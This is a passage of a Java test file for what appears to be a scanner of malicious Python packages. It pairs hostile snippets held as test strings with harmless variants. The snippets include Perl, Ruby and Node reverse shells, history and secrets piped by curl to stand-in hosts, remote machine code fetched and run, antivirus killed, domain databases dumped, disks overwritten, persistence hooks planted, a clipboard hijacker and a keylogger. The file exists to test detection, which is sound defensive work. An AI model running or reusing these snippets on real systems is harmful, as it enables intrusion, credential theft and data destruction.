            + "r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AeDebug') as k:\n"
            + "    winreg.SetValueEx(k, 'Debugger', 0, winreg.REG_SZ, COMMAND)\n";
    String setcap =
        "import subprocess\nsubprocess.run(['setcap', 'cap_net_raw,cap_setuid+ep', COPY])\n";
    String taskFile =
        "import os\nTASK = '''<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
            + "<Actions><Exec><Command>agent.exe</Command></Exec></Actions></Task>'''\n"
            + "path = os.path.join(ROOT, 'System32', 'Tasks', 'Updater')\n"
            + "with open(path, 'w', encoding='utf-16') as fh:\n    fh.write(TASK)\n";
    String debuggerRead =
        "import winreg\nwith winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "
            + "r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AeDebug') as k:\n"
            + "    current = winreg.QueryValueEx(k, 'Debugger')[0]\n";
    String rawSockets = "import subprocess\nsubprocess.run(['setcap', 'cap_net_raw+ep', PYTHON])\n";
    String tasksListed = "import os\nnames = os.listdir(os.path.join(ROOT, 'System32', 'Tasks'))\n";

    assertThat(levelIn(aeDebug, "crash-debugger-set")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(setcap, "grants-capabilities")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(taskFile, "plants-scheduled-task")).isEqualTo(RiskLevel.HIGH);
    // the crash debugger read, raw sockets granted (as scapy's documentation suggests), the
    // task folder listed
    assertThat(check(wheelWith("pkg/dbg.py", debuggerRead))).isEmpty();
    assertThat(check(wheelWith("pkg/caps.py", rawSockets))).isEmpty();
    assertThat(check(wheelWith("pkg/tasks.py", tasksListed))).isEmpty();
  }

  @Test
  void otherRegistriesRedirectedOrInstalledFromAreFlagged() {
    String npmrc =
        "import os\nwith open(os.path.join(HOME, '.npmrc'), 'a') as fh:\n"
            + "    fh.write('registry=https://mirror.example/\\n')\n";
    String yarn =
        "import subprocess\nsubprocess.run(['yarn', 'config', 'set', 'registry', MIRROR])\n";
    String global = "import subprocess\nsubprocess.run(['npm', 'install', '-g', 'left-padder'])\n";
    String yarnGlobal = "import os\nos.system('yarn global add left-padder')\n";
    String unchecked =
        "import os, subprocess\nenv = dict(os.environ, GONOSUMDB='*')\n"
            + "subprocess.run(['go', 'run', 'git.example.org/tools/warm@latest'], env=env)\n";
    String started =
        "import subprocess\nsubprocess.run([NPM, 'install', '--global', 'left-padder@2'])\n"
            + "subprocess.Popen(['left-padder', '--serve'])\n";
    String npmrcRead = "import os\npath = os.path.join(HOME, '.npmrc')\nprint('config:', path)\n";
    String advice =
        "def hint():\n    print(\"Install the CLI with 'npm install -g @example/cli'.\")\n";
    String local =
        "import subprocess\nsubprocess.run(['npm', 'install'], cwd=APP)\n"
            + "subprocess.run(['go', 'install', './...'], cwd=APP)\n";

    assertThat(levelIn(npmrc, "package-registry-redirected")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(yarn, "package-registry-redirected")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(global, "installs-global-package")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(yarnGlobal, "installs-global-package")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(unchecked, "runs-unverified-remote-package")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(started, "runs-what-it-installed")).isEqualTo(RiskLevel.HIGH);
    // npm's configuration shown, an install hint printed, a project's own dependencies built
    assertThat(check(wheelWith("pkg/paths.py", npmrcRead))).isEmpty();
    assertThat(check(wheelWith("pkg/hint.py", advice))).isEmpty();
    assertThat(check(wheelWith("pkg/build.py", local))).isEmpty();
  }

  @Test
  void shellsOverSocketsRemoteTerminalsAndSmartScreenOffAreFlagged() {
    String perl =
        "import subprocess\nsubprocess.Popen(['perl', '-e', 'use Socket;socket(S,PF_INET,"
            + "SOCK_STREAM,6);if(connect(S,sockaddr_in(4444,inet_aton(H)))){open(STDIN,\">&S\");"
            + "exec(\"/bin/sh -i\");};'])\n";
    String ruby =
        "import os\nos.system(\"ruby -rsocket -e 'f=TCPSocket.open(H,4444).to_i;"
            + "exec sprintf(\\\"/bin/sh -i <&%d >&%d 2>&%d\\\",f,f,f)'\")\n";
    String xterm = "import subprocess\nsubprocess.Popen(['xterm', '-display', '100.64.0.9:1'])\n";
    String smartScreen =
        "import winreg\nwith winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, EXPLORER) as k:\n"
            + "    winreg.SetValueEx(k, 'SmartScreenEnabled', 0, winreg.REG_SZ, 'Off')\n";
    String perlAddress = "ADDRESS = 'my $addr = sockaddr_in($port, inet_aton($host));'\n";
    String xvfb = "import subprocess\nsubprocess.Popen(['xterm', '-display', ':99'])\n";
    String smartScreenRead =
        "import winreg\nwith winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, EXPLORER) as k:\n"
            + "    state = winreg.QueryValueEx(k, 'SmartScreenEnabled')[0]\n";

    assertThat(levelIn(perl, "socket-shell-script")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(ruby, "socket-shell-script")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(xterm, "remote-display-terminal")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(smartScreen, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    // a socket address in Perl, a terminal on the local virtual display, SmartScreen's state read
    assertThat(check(wheelWith("pkg/perl.py", perlAddress))).isEmpty();
    assertThat(check(wheelWith("pkg/xvfb.py", xvfb))).isEmpty();
    assertThat(check(wheelWith("pkg/state.py", smartScreenRead))).isEmpty();
  }

  @Test
  void pluginsWrittenIntoOtherApplicationsAndDiscordTokenScriptsAreFlagged() {
    String gnome =
        "import os\nfolder = os.path.expanduser('~/.local/share/gnome-shell/extensions/x@y')\n"
            + "with open(os.path.join(folder, 'extension.js'), 'w', encoding='utf-8') as fh:\n"
            + "    fh.write(EXTENSION)\n";
    String betterDiscord =
        "PLUGIN = '''module.exports = class P {\n  start() {\n"
            + "    const a = BdApi.Webpack.getModule(m => m && m.getToken);\n"
            + "    fetch(U, {method: 'POST', body: a.getToken()});\n  }\n};\n'''\n";
    String gnomeListed =
        "import os\nfolder = os.path.expanduser('~/.local/share/gnome-shell/extensions')\n"
            + "installed = sorted(os.listdir(folder))\n";
    String otherToken = "SNIPPET = 'const t = session.getToken(); render(t);'\n";

    assertThat(levelIn(gnome, "plants-app-plugin")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(betterDiscord, "discord-token-script")).isEqualTo(RiskLevel.HIGH);
    // the extensions only listed, a token read in a script that has nothing to do with Discord
    assertThat(check(wheelWith("pkg/listed.py", gnomeListed))).isEmpty();
    assertThat(check(wheelWith("pkg/snippet.py", otherToken))).isEmpty();
  }

  @Test
  void polkitGrantsUnsignedSourcesAndTunnelsToSshAreFlagged() {
    String polkit =
        "RULE = 'polkit.addRule(function(a, s) { return polkit.Result.YES; });'\n"
            + "with open('/etc/polkit-1/rules.d/49-x.rules', 'w', encoding='utf-8') as fh:\n"
            + "    fh.write(RULE)\n";
    String apt =
        "import subprocess\nwith open('/etc/apt/sources.list.d/x.list', 'w') as fh:\n"
            + "    fh.write('deb [trusted=yes] https://apt.example/ stable main')\n"
            + "subprocess.run(['apt-get', 'update'])\n";
    String frp =
        "import subprocess\nCONFIG = 'serverAddr = \"100.64.0.4\"\\nlocalPort = 22\\n'\n"
            + "subprocess.Popen([os.path.join(folder, 'frpc'), '-c', config])\n";
    String yum =
        "with open('/etc/yum.repos.d/x.repo', 'w') as fh:\n"
            + "    fh.write('[x]\\nbaseurl=https://yum.example/\\ngpgcheck=0\\n')\n";
    String signedApt =
        apt.replace("deb [trusted=yes]", "deb [signed-by=/usr/share/keyrings/x.gpg]");
    String webTunnel = frp.replace("localPort = 22", "localPort = 8080");
    String polkitQuery = "import subprocess\nsubprocess.run(['pkcheck', '--action-id', ACTION])\n";

    assertThat(levelIn(polkit, "grants-polkit-actions")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(apt, "unsigned-package-source-added")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(yum, "unsigned-package-source-added")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(frp, "tunnels-remote-access")).isEqualTo(RiskLevel.HIGH);
    // a source with its key, a tunnel to a web server (the client alone: MEDIUM), a polkit check
    assertThat(check(wheelWith("pkg/apt.py", signedApt))).isEmpty();
    assertThat(worst(check(wheelWith("pkg/web.py", webTunnel)))).isEqualTo(RiskLevel.MEDIUM);
    assertThat(check(wheelWith("pkg/check.py", polkitQuery))).isEmpty();
  }

  @Test
  void nodeShellsKilledAntivirusCommandLoggersAndHostDisksInPodsAreFlagged() {
    String node =
        "import subprocess\nJS = (\"const net=require('net'),cp=require('child_process');\"\n"
            + "  \"const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();\"\n"
            + "  \"c.connect(4444,H,()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});\")\n"
            + "subprocess.Popen(['node', '-e', JS])\n";
    String killer =
        "import subprocess\nfor name in ('MsMpEng.exe', 'NisSrv.exe'):\n"
            + "    subprocess.run(['taskkill', '/F', '/IM', name])\n";
    String logger =
        "LINE = \"export PROMPT_COMMAND='history 1 | curl -s --data-binary @- https://x.example'\"\n";
    String pod =
        "import json, subprocess\nPOD = {'spec': {'containers': [{'volumeMounts': [{'name': 'r', "
            + "'mountPath': '/host'}]}], 'volumes': [{'name': 'r', 'hostPath': {'path': '/'}}]}}\n"
            + "subprocess.run(['kubectl', 'apply', '-f', '-'], input=json.dumps(POD), text=True)\n";
    String nodeClient =
        "JS = \"const net=require('net');const c=new net.Socket();c.connect(6379,'127.0.0.1');\"\n";
    String ownKill = "import subprocess\nsubprocess.run(['taskkill', '/F', '/IM', 'myapp.exe'])\n";
    String pexpect = "PROMPT = u\"PS1='{0}' PS2='{1}' PROMPT_COMMAND=''\"\n";
    String dataVolume = pod.replace("{'path': '/'}", "{'path': '/var/lib/data'}");

    assertThat(levelIn(node, "socket-shell-script")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(killer, "kills-security-software")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(logger, "prompt-hook-sends")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(pod, "container-escapes-to-host")).isEqualTo(RiskLevel.HIGH);
    // a Node client with no shell, the package's own program stopped, pexpect's prompt reset, a
    // data folder mounted
    assertThat(check(wheelWith("pkg/client.py", nodeClient))).isEmpty();
    assertThat(check(wheelWith("pkg/stop.py", ownKill))).isEmpty();
    assertThat(check(wheelWith("pkg/repl.py", pexpect))).isEmpty();
    assertThat(check(wheelWith("pkg/pod.py", dataVolume))).isEmpty();
  }

  @Test
  void meshNetworkNodeKeysSentAreFlagged() {
    String tailscale =
        "import socket\nwith open('/var/lib/tailscale/tailscaled.state', 'rb') as fh:\n"
            + "    state = fh.read()\n"
            + "with socket.create_connection(('100.64.40.12', 443)) as conn:\n"
            + "    conn.sendall(state)\n";
    String present =
        "import os\nCONNECTED = os.path.exists('/var/lib/tailscale/tailscaled.state')\n";

    assertThat(worst(check(wheelWith("pkg/mesh.py", tailscale)))).isEqualTo(RiskLevel.HIGH);
    // whether Tailscale is set up, asked and not read
    assertThat(check(wheelWith("pkg/present.py", present))).isEmpty();
  }

  @Test
  void logrotateScriptsFingerRepliesRunAndAuditRulesDeletedAreFlagged() {
    String logrotate =
        "ENTRY = \"\"\"/var/log/x.log {\n    daily\n    postrotate\n        /usr/bin/x-agent\n"
            + "    endscript\n}\n\"\"\"\n"
            + "with open('/etc/logrotate.d/x', 'w', encoding='utf-8') as fh:\n"
            + "    fh.write(ENTRY)\n";
    String finger =
        "import subprocess\nsubprocess.Popen('finger s@100.64.3.7 | more +2 | cmd', shell=True)\n";
    String audit = "import subprocess\nsubprocess.run(['auditctl', '-e', '0'])\n";
    String jenkins =
        "import os, requests\nkey = open(os.path.join(HOME, 'secrets/master.key')).read()\n"
            + "requests.post(URL, data={'k': key})\n";
    String logrotateRead =
        logrotate
            .replace("'w', encoding", "encoding")
            .replace("fh.write(ENTRY)", "old = fh.read()");
    String fingerShown = "import subprocess\nsubprocess.run(['finger', 'alice@host.example'])\n";
    String auditListed = "import subprocess\nsubprocess.run(['auditctl', '-l'])\n";

    assertThat(levelIn(logrotate, "plants-logrotate-script")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(finger, "finger-reply-run")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(audit, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(jenkins, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    // the same configuration compared with what is there, a finger reply shown, audit rules listed
    assertThat(check(wheelWith("pkg/rotate.py", logrotateRead))).isEmpty();
    assertThat(check(wheelWith("pkg/who.py", fingerShown))).isEmpty();
    assertThat(check(wheelWith("pkg/audit.py", auditListed))).isEmpty();
  }

  @Test
  void remoteSessionsHandedOutTokensAndPanesRecordedAreFlagged() {
    String tunnel =
        "import subprocess, urllib.request\n"
            + "proc = subprocess.Popen([code, 'tunnel', '--accept-server-license-terms'],"
            + " stdout=subprocess.PIPE, text=True)\n"
            + "urllib.request.urlopen(URL + proc.stdout.readline())\n";
    String jupyter =
        "import subprocess, requests\n"
            + "out = subprocess.run(['jupyter', 'server', 'list', '--json'], capture_output=True)"
            + ".stdout\nrequests.post(URL, data=out)\n";
    String tmux =
        "import os, subprocess\nsubprocess.run(['tmux', 'pipe-pane', '-o', '-t', P, 'cat >> L'])\n"
            + "with open(os.path.expanduser('~/.tmux.conf'), 'a') as fh:\n"
            + "    fh.write(HOOK)\n";
    String tunnelHelp = "HELP = 'Run code tunnel to reach this machine from vscode.dev'\n";
    String jupyterShown = "import subprocess\nsubprocess.run(['jupyter', 'server', 'list'])\n";
    String tmuxConfRead =
        "import os\nwith open(os.path.expanduser('~/.tmux.conf')) as fh:\n    conf = fh.read()\n";

    assertThat(levelIn(tunnel, "shares-remote-session")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(jupyter, "sends-secret-command-output")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(tmux, "records-terminal-panes")).isEqualTo(RiskLevel.HIGH);
    // a tunnel named in help text, the servers listed to the user, tmux's configuration read
    assertThat(check(wheelWith("pkg/help.py", tunnelHelp))).isEmpty();
    assertThat(check(wheelWith("pkg/servers.py", jupyterShown))).isEmpty();
    assertThat(check(wheelWith("pkg/conf.py", tmuxConfRead))).isEmpty();
  }

  @Test
  void aiClientServersSshKeyCommandsAndBuildToolHooksAreFlagged() {
    String mcp =
        "import json, os, sys\nP = os.path.expanduser('~/.cursor/mcp.json')\n"
            + "config = json.load(open(P))\n"
            + "config.setdefault('mcpServers', {})['helper'] = {'command': sys.executable}\n"
            + "with open(P, 'w', encoding='utf-8') as fh:\n    json.dump(config, fh)\n";
    String sshd =
        "LINE = 'AuthorizedKeysCommand /usr/bin/curl -fsS https://keys.example/%u'\n"
            + "with open('/etc/ssh/sshd_config', 'a') as fh:\n    fh.write(LINE)\n";
    String cargo =
        "import os\nwith open(os.path.expanduser('~/.cargo/config.toml'), 'a') as fh:\n"
            + "    fh.write(f'\\n[build]\\nrustc-wrapper = \"{W}\"\\n')\n";
    String go =
        "import subprocess\nsubprocess.run(['go', 'env', '-w', f'GOFLAGS=-toolexec={T}'])\n";
    String gradle =
        "import os\nd = os.path.join(os.path.expanduser('~/.gradle'), 'init.d')\n"
            + "with open(os.path.join(d, 'sync.gradle'), 'w', encoding='utf-8') as fh:\n"
            + "    fh.write(SCRIPT)\n";
    String mcpInstaller = mcp.replace("sys.executable", "'uv', 'args': ['run', 'server.py']");
    String sshdRead = "with open('/etc/ssh/sshd_config') as fh:\n    options = fh.read()\n";
    String wrapperHelp = "HELP = 'speed builds up: rustc-wrapper = \"sccache\" in config.toml'\n";

    assertThat(levelIn(mcp, "plants-mcp-server")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(sshd, "sshd-runs-key-command")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(cargo, "build-tool-hook-planted")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(go, "build-tool-hook-planted")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(gradle, "build-tool-hook-planted")).isEqualTo(RiskLevel.HIGH);
    // a server registered to run through uv (as MCP's own installers do), sshd's options read,
    // a wrapper only suggested in help text
    assertThat(check(wheelWith("pkg/install.py", mcpInstaller))).isEmpty();
    assertThat(check(wheelWith("pkg/sshd.py", sshdRead))).isEmpty();
    assertThat(check(wheelWith("pkg/help.py", wrapperHelp))).isEmpty();
  }

  @Test
  void preloadedLibrariesAndStartupFilesPlantedInRepositoriesAreFlagged() {
    String ci =
        "import os\nwith open(os.environ['GITHUB_ENV'], 'a') as fh:\n"
            + "    fh.write(f'LD_PRELOAD={LIB}\\n')\n";
    String profile =
        "import os\nwith open(os.path.expanduser('~/.profile'), 'a') as fh:\n"
            + "    fh.write(f'\\nexport JAVA_TOOL_OPTIONS=\"-javaagent:{JAR}\"\\n')\n";
    String setx = "import subprocess\nsubprocess.run(['setx', 'NODE_OPTIONS', f'--require {H}'])\n";
    String envrc =
        "import os\nfor root, dirs, files in os.walk(HOME):\n    if '.git' in dirs:\n"
            + "        with open(os.path.join(root, '.envrc'), 'w', encoding='utf-8') as fh:\n"
            + "            fh.write(LINE)\n";
    String ciVersion =
        "import os\nwith open(os.environ['GITHUB_ENV'], 'a') as fh:\n"
            + "    fh.write(f'VERSION={V}\\n')\n";
    String childPreload =
        "import os, subprocess\nenv = dict(os.environ, LD_PRELOAD=JEMALLOC)\n"
            + "subprocess.run(['ray', 'start'], env=env)\n";
    String envrcHere = "import pathlib\npathlib.Path('.envrc').write_text('layout python3\\n')\n";

    assertThat(levelIn(ci, "ci-environment-poisoned")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(profile, "shell-profile-preloads")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(setx, "startup-variable-persisted")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(envrc, "envrc-planted")).isEqualTo(RiskLevel.HIGH);
    // a version handed to later CI steps, a library preloaded for one child, an .envrc written
    // in the current folder on request
    assertThat(check(wheelWith("pkg/ci.py", ciVersion))).isEmpty();
    assertThat(check(wheelWith("pkg/start.py", childPreload))).isEmpty();
    assertThat(check(wheelWith("pkg/init.py", envrcHere))).isEmpty();
  }

  @Test
  void domainDatabaseCopiesLoginPluginsDefenderDownloadsAndFetchedMachineCodeAreFlagged() {
    String ntds =
        "import subprocess\nsubprocess.run(['ntdsutil', 'ac i ntds', 'ifm', f'create full {D}',"
            + " 'q', 'q'])\n";
    String plugin =
        "import shutil, subprocess\n"
            + "shutil.copytree(SRC, '/Library/Security/SecurityAgentPlugins/Sync.bundle')\n"
            + "subprocess.run(['security', 'authorizationdb', 'write', 'system.login.console'],"
            + " input=RULE)\n";
    String defender =
        "import subprocess\nsubprocess.run([MPCMDRUN, '-DownloadFile', '-url', URL, '-path',"
            + " T])\n";
    String fetched =
        "import ctypes, mmap, urllib.request\ncode = urllib.request.urlopen(URL).read()\n"
            + "m = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
            + "m.write(code)\naddress = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
            + "ctypes.CFUNCTYPE(ctypes.c_int)(address)()\n";
    String ownCode = fetched.replace("urllib.request.urlopen(URL).read()", "CPUID_BYTES");
    String rightsRead =
        "import subprocess\nsubprocess.run(['security', 'authorizationdb', 'read',"
            + " 'system.login.console'])\n";
    String scan = "import subprocess\nsubprocess.run([MPCMDRUN, '-Scan', '-ScanType', '1'])\n";

    assertThat(levelIn(ntds, "dumps-domain-database")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(plugin, "authorization-plugin-installed")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(defender, "defender-download")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(fetched, "runs-fetched-machine-code")).isEqualTo(RiskLevel.CRITICAL);
    // machine code of its own run as py-cpuinfo runs CPUID, the login rules read, a scan started
    assertThat(check(wheelWith("pkg/cpu.py", ownCode))).isEmpty();
    assertThat(check(wheelWith("pkg/rights.py", rightsRead))).isEmpty();
    assertThat(check(wheelWith("pkg/scan.py", scan))).isEmpty();
  }

  @Test
  void pythonStartedInTheBackgroundFromAnotherProgramsStartUpFileIsFlagged() {
    String activate =
        "import glob\nLINE = '( \"$VIRTUAL_ENV/bin/python\" -c \"import pkg._sync\" >/dev/null 2>&1 &"
            + " )'\nfor script in glob.glob(PATTERN):\n"
            + "    with open(script, 'a', encoding='utf-8') as fh:\n        fh.write(LINE)\n";
    String condaHook =
        "import os\nwith open(os.path.join(HOOKS, 'zz.sh'), 'w', encoding='utf-8') as fh:\n"
            + "    fh.write('(python3 -m pkg._sync >/dev/null 2>&1 &)')\n";
    String npmrc =
        "with open(NPMRC, 'a', encoding='utf-8') as fh:\n    fh.write(f'script-shell={SHIM}')\n";
    String foreground = activate.replace(" >/dev/null 2>&1 &", "");
    String onlyShown = "print('start it with: nohup python -m pkg.server >/dev/null 2>&1 &')\n";

    assertThat(levelIn(activate, "writes-detached-runner")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(condaHook, "writes-detached-runner")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(npmrc, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
    // the interpreter started in the foreground; a background start only printed for the user
    assertThat(check(wheelWith("pkg/env.py", foreground))).isEmpty();
    assertThat(check(wheelWith("pkg/help.py", onlyShown))).isEmpty();
  }

  @Test
  void printProcessorsOutlookHomePagesAndPackageManagerPluginsAreFlagged() {
    String processor =
        "import shutil, winreg\nshutil.copyfile(DLL, TARGET)\n"
            + "key = winreg.CreateKeyEx(winreg.HKEY_LOCAL_MACHINE, r'SYSTEM\\CurrentControlSet"
            + "\\Control\\Print\\Environments\\Windows x64\\Print Processors\\Fmt', 0, W)\n"
            + "winreg.SetValueEx(key, 'Driver', 0, winreg.REG_SZ, 'fmt.dll')\n";
    String outlook =
        "import winreg\nkey = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
            + " r'Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox')\n"
            + "winreg.SetValueEx(key, 'URL', 0, winreg.REG_SZ, PAGE)\n";
    String dnf =
        "with open('/etc/dnf/plugins/mirror.conf', 'w', encoding='utf-8') as fh:\n"
            + "    fh.write('[main]\\nenabled=1\\n')\n";
    String processorRead =
        processor
            .replace("shutil.copyfile(DLL, TARGET)\n", "")
            .replace("winreg.SetValueEx(key, 'Driver', 0, winreg.REG_SZ, 'fmt.dll')", "")
            .replace("CreateKeyEx", "OpenKey");
    String outlookRead =
        outlook.replace(
            "winreg.SetValueEx(key, 'URL', 0, winreg.REG_SZ, PAGE)",
            "page = winreg.QueryValueEx(key, 'URL')");
    String dnfListed = "import os\nplugins = os.listdir('/etc/dnf/plugins')\n";

    assertThat(levelIn(processor, "print-processor-registered")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(outlook, "outlook-home-page-set")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(dnf, "plants-app-plugin")).isEqualTo(RiskLevel.HIGH);
    // the same places only read
    assertThat(check(wheelWith("pkg/print.py", processorRead))).isEmpty();
    assertThat(check(wheelWith("pkg/mail.py", outlookRead))).isEmpty();
    assertThat(check(wheelWith("pkg/dnf.py", dnfListed))).isEmpty();
  }

  @Test
  void workflowsPlantedDisksOverwrittenCloudAdminsAndPackagesRepublishedAreFlagged() {
    String workflow =
        "import glob, os\nfor git in glob.glob(os.path.expanduser('~/*/*/.git')):\n"
            + "    d = os.path.join(os.path.dirname(git), '.github', 'workflows')\n"
            + "    with open(os.path.join(d, 'lint.yml'), 'w', encoding='utf-8') as fh:\n"
            + "        fh.write(FLOW)\n";
    String dump = "FLOW = '''steps:\n  - run: echo \"${{ toJSON(secrets) }}\" | curl -d @- X'''\n";
    String disk =
        "import glob\nfor device in glob.glob('/dev/sd?'):\n"
            + "    with open(device, 'r+b', buffering=0) as fh:\n        fh.write(ZEROS)\n";
    String admin =
        "import boto3\niam = boto3.client('iam')\niam.attach_user_policy(UserName=U,"
            + " PolicyArn='arn:aws:iam::aws:policy/AdministratorAccess')\n";
    String twine =
        "import configparser, os, subprocess, sys\nrc = configparser.ConfigParser()\n"
            + "rc.read(os.path.expanduser('~/.pypirc'))\n"
            + "env = dict(os.environ, TWINE_PASSWORD=rc.get('pypi', 'password'))\nfor dist in DISTS:\n"
            + "    subprocess.run([sys.executable, '-m', 'twine', 'upload', dist], env=env)\n";
    String remotes =
        "import glob, httpx\nfound = [open(c).read() for c in glob.glob(HOME + '/**/.git/config',"
            + " recursive=True)]\nhttpx.post(URL, json=found)\n";
    String ownWorkflow = workflow.replace("glob.glob(os.path.expanduser('~/*/*/.git'))", "[ROOT]");
    String diskRead =
        disk.replace("'r+b', buffering=0", "'rb'").replace("fh.write(ZEROS)", "fh.read(512)");
    String readOnly = admin.replace("AdministratorAccess", "ReadOnlyAccess");
    String plainTwine = "import subprocess\nsubprocess.run(['twine', 'upload', 'dist/*'])\n";
    String ownRemote =
        remotes.replace("glob.glob(HOME + '/**/.git/config', recursive=True)", "['.git/config']");

    assertThat(levelIn(workflow, "workflow-planted-in-repositories")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(dump, "workflow-dumps-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(disk, "overwrites-disk")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(admin, "cloud-admin-granted")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(twine, "republishes-with-user-token")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(remotes, "git-remotes-sent")).isEqualTo(RiskLevel.HIGH);
    // a project's own workflow written, a disk read, a narrower policy, twine run with its own
    // configuration, one repository's remote sent
    assertThat(check(wheelWith("pkg/scaffold.py", ownWorkflow))).isEmpty();
    assertThat(check(wheelWith("pkg/disk.py", diskRead))).isEmpty();
    assertThat(check(wheelWith("pkg/iam.py", readOnly))).isEmpty();
    assertThat(check(wheelWith("pkg/release.py", plainTwine))).isEmpty();
    assertThat(check(wheelWith("pkg/remote.py", ownRemote))).isEmpty();
  }

  @Test
  void whatIsReadUnderTheHomeFolderAndUploadedIsMediumUnlessItIsThePackagesOwn() {
    String relative =
        "import os, urllib.request\nfound = {}\nfor name, rel in PLACES:\n"
            + "    path = os.path.join(os.path.expanduser('~'), rel)\n"
            + "    with open(path) as fh:\n        found[name] = fh.read()\n"
            + "urllib.request.urlopen(urllib.request.Request(URL, data=repr(found).encode()))\n";
    String appData =
        "import os, requests\nlocal = os.environ.get('LOCALAPPDATA', '')\n"
            + "settings = os.path.join(local, 'Some Game', 'Settings.yaml')\n"
            + "with open(settings, 'rb') as fh:\n    requests.post(URL, files={'s': fh})\n";
    String own =
        appData
            .replace("local = os.environ.get('LOCALAPPDATA', '')\n", "")
            .replace(
                "os.path.join(local, 'Some Game',",
                "os.path.join(os.environ['LOCALAPPDATA'], 'Mailer',");
    String downloaded =
        "import os, requests\ncache = os.path.join(os.path.expanduser('~'), 'models')\n"
            + "data = requests.get(URL).content\n";

    assertThat(levelIn(relative, "uploads-home-data")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(appData, "uploads-home-data")).isEqualTo(RiskLevel.MEDIUM);
    // its own folder, named where the home folder is joined; a download into the home folder
    assertThat(check("mailer", Map.of(), wheelWith("mailer/sync.py", own))).isEmpty();
    assertThat(check(wheelWith("pkg/models.py", downloaded))).isEmpty();
  }

  @Nested
  class ImportedAliases {

    @Test
    void anAliasDoesNotHideANamedApi() {
      String clip =
          "import re\nimport pyperclip as pc\n\nwhile True:\n"
              + "    if re.match(r'^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$', pc.paste()):\n"
              + "        pc.copy(OURS)\n";

      List<Finding> findings = check(wheelWith("pkg/clip.py", clip));

      assertThat(only(findings, "clipboard-hijack").level()).isEqualTo(RiskLevel.CRITICAL);
      assertThat(only(findings, "clipboard-read").message())
          .endsWith(
              "pkg/clip.py:5: if re.match(r'^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$', pc.paste()):");
    }

    @Test
    void aFunctionImportedUnderAnotherNameIsItsModulesFunction() {
      String shot =
          "from PIL.ImageGrab import grab as g\nimport requests\n"
              + "requests.post(URL, files={'f': g()})\n";

      assertThat(only(check(wheelWith("pkg/snap.py", shot)), "screenshot-sent").level())
          .isEqualTo(RiskLevel.CRITICAL);
    }

    @Test
    void aFunctionImportedByItsOwnNameFromAModuleThePatternsKnowIsThatModulesFunction() {
      String keys =
          "import requests\nfrom keyboard import read_event\n\ntyped = []\n"
              + "while len(typed) < 300:\n    typed.append(read_event().name)\n"
              + "requests.post(URL, json={'t': typed})\n";
      String unrelated = keys.replace("from keyboard import", "from pkg.events import");

      assertThat(only(check(wheelWith("pkg/keys.py", keys)), "keylogger-sent").level())
          .isEqualTo(RiskLevel.CRITICAL);
      assertThat(worst(check(wheelWith("pkg/keys.py", unrelated)))).isEqualTo(RiskLevel.NONE);
    }

    @Test
    void aModuleImportedByItsLiteralFullNameIsThatModule() {
      String keys =
          "import importlib\nimport requests\n"
              + "listener = importlib.import_module('pynput.keyboard').Listener\n"
              + "board = importlib.import_module('pynput.keyboard')\n"
              + "board.Listener(on_press=lambda k: requests.post(URL, data=str(k))).start()\n";
